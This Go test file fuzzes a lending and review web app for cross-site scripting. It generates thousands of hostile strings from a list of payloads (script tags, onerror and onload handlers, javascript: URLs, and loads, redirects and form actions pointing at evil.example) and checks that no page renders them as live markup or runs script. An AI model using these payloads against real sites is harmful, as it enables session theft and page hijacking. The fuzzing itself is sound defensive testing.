package browser_test

import (
	"fmt"
	"net/http"
	"net/url"
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/net/html"
)

// What somebody who means harm writes: pieces that do something where they are taken for markup, what might end the text they stand
// in, and ways of writing them. Each hits if it sets fairleadHit or makes an x-hostile element.
var (
	pieces = []string{
		`<script>fairleadHit=1</script>`, `<script src=//evil.example/x.js></script>`, `<img src=x onerror=fairleadHit=1>`, `<svg onload=fairleadHit=1>`,
		`<x-hostile onclick=fairleadHit=1>`, `<iframe srcdoc="<script>parent.fairleadHit=1</script>">`, `<body onload=fairleadHit=1>`,
		`<a href="javascript:fairleadHit=1">x</a>`, `<form action=//evil.example><button>x`, `<button formaction=//evil.example>`,
		`<base href=//evil.example/>`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<link rel=stylesheet href=//evil.example/x.css>`,
		`<style>*{display:none}</style>`, `<input autofocus onfocus=fairleadHit=1>`, `<details open ontoggle=fairleadHit=1>`,
		`<object data=//evil.example></object>`, `<embed src=//evil.example>`, `<math><mtext><x-hostile>`, `<template><x-hostile>`,
		`<video><source onerror=fairleadHit=1>`, `<marquee onstart=fairleadHit=1>`, `<p style="background:url(//evil.example)">`,
		`<noscript><p title="</noscript><img src=x onerror=fairleadHit=1>">`, `<svg><script>fairleadHit=1</script></svg>`,
		`<!--><x-hostile>-->`, `<![CDATA[<x-hostile>]]>`, `<?xml version="1.0"?><x-hostile>`, `javascript:fairleadHit=1`,
		` onmouseover=fairleadHit=1 x=`, ` autofocus tabindex=1 onfocus=fairleadHit=1 x=`, `{{"<x-hostile>"}}`, `{{.Token}}`, `${fairleadHit=1}`,
		`';fairleadHit=1;//`, `");fairleadHit=1;//`, `</script><script>fairleadHit=1</script>`, `+ADw-x-hostile+AD4-`, `<EMAIL_ADDRESS_1><x-hostile>`,
		`data:text/html,<script>fairleadHit=1</script>`, `<plaintext>`, `<textarea><x-hostile>`, `<table><tr><td><x-hostile>`,
	}
	before = []string{
		``, `"`, `'`, "`", `>`, `">`, `'>`, `/>`, `\`, `\">`, `</p>`, `</pre>`, `</textarea>`, `</title>`, `</script>`, `</style>`, `-->`, `]]>`,
		`</details>`, `</td>`, `</blockquote>`, `" x="`, `&quot;>`, `&#34;&#62;`, `%22%3E`, "\u202e", "\u2028", "\xff", "\xc0\xbc", "\n\n",
	}
	after   = []string{``, `"`, `<!--`}
	written = []func(string) string{
		func(s string) string { return s },
		strings.ToUpper,
		func(s string) string { return strings.Replace(s, "<", "<\x00", 1) },
		func(s string) string { return strings.Replace(s, " ", "\t\n", 1) },
		html.EscapeString,
		func(s string) string { return strings.ReplaceAll(s, "<", "\uff1c") },
	}
)

// hostile are n of all the combinations, spread evenly.
func hostile(n int) []string {
	all := len(pieces) * len(before) * len(after) * len(written)
	texts := make([]string, n)
	for i := range texts {
		at := i * all / n
		piece := pieces[at%len(pieces)]
		at /= len(pieces)
		write := written[at%len(written)]
		at /= len(written)
		texts[i] = before[at%len(before)] + write(piece) + after[at/len(before)%len(after)]
	}
	return texts
}

// letters packs texts into messages of at most size bytes, and marks each; the address is something to hide, so that there are words to
// be shown again.
func letters(texts []string, size int) []string {
	var all []string
	message := ""
	for _, text := range texts {
		if message != "" && len(message)+len(text)+1 > size {
			all = append(all, message)
			message = ""
		}
		if message == "" {
			message = fmt.Sprintf("letter-%d: someone@example.com", len(all))
		}
		message += "\n" + text
	}
	return append(all, message)
}

func TestEnoughHostileStrings(t *testing.T) {
	texts := hostile(10_000)
	slices.Sort(texts)
	assert.Greater(t, len(slices.Compact(texts)), 9_000, "different ones")
}

// reader looks at pages for what does not belong there.
type reader struct {
	t     testing.TB
	pages int
}

// The elements and attributes that the pages are made of. Anything else in one of them was written by somebody else.
var (
	elements = set(`html head meta title link script body a header div p span nav ul ol li main h1 h2 h3 article section form input button label
		textarea select option datalist table thead tbody tr th td dl dt dd details summary blockquote pre small strong b br kbd del ins time
		footer svg g rect line path circle text title svg desc polyline polygon fieldset legend aside em code caption tfoot figure figcaption progress meter i abbr`)
	attributes = set(`lang hreflang charset name content rel href src defer class id aria-label aria-current aria-hidden aria-live aria-labelledby
		aria-describedby aria-invalid role tabindex method action type value required min max rows maxlength minlength list autocomplete
		placeholder for checked selected disabled open spellcheck inputmode datetime scope colspan rowspan download enctype
		formaction width height viewbox preserveaspectratio rx ry x y x1 x2 y1 y2 cx cy r d points transform text-anchor dx dy title
		data-key data-key-name data-live data-stream data-state data-until data-over data-renew data-lost data-confirm data-check-all
		data-copy data-submit data-label data-who focusable stroke-dasharray`)
)

func set(words string) map[string]bool {
	all := map[string]bool{}
	for _, word := range strings.Fields(words) {
		all[word] = true
	}
	return all
}

// reads requires that a page is made of nothing but our own.
func (r *reader) reads(a answer, err error) answer {
	r.t.Helper()
	require.NoError(r.t, err)
	require.Less(r.t, a.status, 500, a.path)
	r.pages++
	script := false
	for tokens := html.NewTokenizer(strings.NewReader(a.body)); ; {
		switch tokens.Next() {
		case html.ErrorToken:
			return a
		case html.TextToken:
			if text := strings.TrimSpace(string(tokens.Raw())); script && text != "" {
				r.t.Fatalf("a script in %s: %.200s", a.path, text)
			}
		case html.CommentToken:
			r.t.Fatalf("a comment in %s: %.200s", a.path, tokens.Raw())
		case html.StartTagToken, html.SelfClosingTagToken:
			raw := string(tokens.Raw())
			token := tokens.Token()
			script = token.Data == "script"
			require.True(r.t, elements[token.Data], "%s in %.200s", raw, a.path)
			for _, attribute := range token.Attr {
				key := attribute.Key
				require.True(r.t, attributes[key] || strings.HasPrefix(key, "data-say-"), "%s in %.200s", raw, a.path)
				if key == "href" || key == "src" || key == "action" || key == "formaction" {
					to, err := url.Parse(attribute.Val)
					require.NoError(r.t, err, raw)
					own := to.Scheme == "" && to.Host == "" || strings.HasPrefix(attribute.Val, "data:image/svg+xml,") && token.Data == "link"
					require.True(r.t, own, "%s in %.200s", raw, a.path)
				}
			}
		case html.EndTagToken:
			script = false
		}
	}
}

// TestHostileStringsInEveryPage puts them wherever somebody can write, and reads every page that shows them. As an exam there are
// 10,000 of them.
func TestHostileStringsInEveryPage(t *testing.T) {
	n := 1_000
	if os.Getenv("FAIRLEAD_EXAM") != "" {
		n = 10_000
	}
	l := startLender(t, "-demo", "40", "-undo", "0s")
	c, _, _ := held(t, l.url)
	signed, err := c.signIn("reviewer-1")
	must(t, http.StatusOK, signed, err)
	r := &reader{t: t}
	all := letters(hostile(n), 1_900)
	for i, letter := range all {
		everywhere(t, r, c, letter, i)
	}
	for _, path := range []string{"/decisions/", "/decisions/data", "/decisions/take/report.html", "/privacy/history", "/console/", "/console/reviewers", "/console/health", "/fairness/"} {
		r.reads(c.get(path))
	}
	t.Logf("%d strings in %d letters, %d pages read", n, len(all), r.pages)
}

// everywhere writes a letter wherever it can be written, and reads what shows it.
func everywhere(t *testing.T, r *reader, c *client, letter string, i int) {
	page := r.reads(c.get("/apply"))
	wrong := r.reads(c.send(page, map[string]string{"amount": letter[:20], "months": "12", "message": letter}, `name="amount"`))
	require.Equal(t, http.StatusUnprocessableEntity, wrong.status, "a form that comes back with what was typed")
	page = r.reads(c.send(wrong, map[string]string{"amount": "11000", "months": "12", "message": letter}, `name="amount"`))
	require.Contains(t, page.body, "A person looks at")
	id := strings.TrimPrefix(page.path, "/application/")
	page = r.reads(c.get("/decisions/decision/" + id))
	r.reads(c.send(page, nil, "Show my words"))

	page = r.reads(c.get("/console/case/" + id))
	page = r.reads(c.send(page, nil, "Take this case"))
	require.Contains(t, page.body, "The case is yours")
	r.reads(c.send(page, nil, "Show the real words"))
	r.reads(c.send(page, map[string]string{"verdict": "replace", "as": "text", "text": letter, "comment": letter}, "name=\"verdict\"")) // no JSON: it comes back
	page = r.reads(c.get("/console/case/" + id))
	page = r.reads(c.send(page, map[string]string{"verdict": "approve", "comment": letter}, "name=\"verdict\""))
	require.Contains(t, page.body, "decided", page.path)
	r.reads(c.get("/console/case/" + id))

	query := url.QueryEscape(letter)
	for _, path := range []string{
		"/console/?text=" + query, "/console/?view=" + query, "/console/find?case=" + query, "/console/?said=" + query, "/?said=" + query,
		"/customers?from=" + query, "/decisions/?page=" + query, "/privacy/history?before=" + query, "/console/case/" + url.PathEscape(letter[:20]),
		"/" + url.PathEscape(letter[:40]), "/fairness/?format=" + query,
	} {
		r.reads(c.get(path))
	}
	if i%10 != 0 {
		return
	}
	page = r.reads(c.get("/console/stop"))
	page = r.reads(c.send(page, map[string]string{"why": letter}, "Stop everything now"))
	require.Contains(t, page.body, "Nothing that is guarded runs")
	r.reads(c.get("/console/health"))
	page = r.reads(c.send(page, map[string]string{"why": letter}, "Why may it run again"))
	require.Contains(t, page.body, "Stop")
	page = r.reads(c.get("/console/reviewers"))
	r.reads(c.send(page, map[string]string{"name": letter[:200], "competence": letter, "until": "2027-01-01"}, "competence"))
	r.reads(c.get("/console/reviewers"))
}

// TestHostileStringsInTheBrowser has a real browser show some of them: no script runs, and nothing becomes an element.
func TestHostileStringsInTheBrowser(t *testing.T) {
	l := startLender(t, "-demo", "40", "-undo", "0s")
	c, _, _ := held(t, l.url)
	signed, err := c.signIn("reviewer-1")
	must(t, http.StatusOK, signed, err)
	b := newTab(t, l.url)
	b.open("/customers?from=35")
	b.follow("Act as 35")
	b.open("/staff")
	b.follow("Sign in as reviewer-2")
	clean := func() {
		t.Helper()
		require.Empty(t, eval[string](b, `(() => { for (const d of document.querySelectorAll('details')) d.open = true;
			if (window.fairleadHit !== undefined) return 'a script ran';
			const e = document.querySelector('x-hostile, base, iframe, object, embed, marquee, video, math, template, style, [onclick], [onerror], [onload], [onfocus], [href^="javascript:"], [action*="evil"], [formaction*="evil"]');
			return e ? e.outerHTML : ''; })()`), b.url())
	}
	texts := hostile(400)
	for i, letter := range letters(texts, 1_900) {
		page, err := c.get("/apply")
		page = must(t, http.StatusOK, page, err)
		page, err = c.send(page, map[string]string{"amount": "11000", "months": "12", "message": letter}, `name="amount"`)
		page = must(t, http.StatusOK, page, err)
		id := strings.TrimPrefix(page.path, "/application/")
		b.open(page.path)
		b.sees(fmt.Sprintf("letter-%d:", i))
		clean()
		b.open("/decisions/decision/" + id)
		b.follow("Show my words")
		clean()
		b.open("/console/case/" + id)
		b.follow("Take this case")
		b.follow("Show the real words")
		clean()
		eval[bool](b, `(document.querySelector('[name=comment]').value = `+quote(letter)+`, true)`)
		b.follow("Approve")
		clean()
	}
	t.Logf("%d strings shown", len(texts))
}
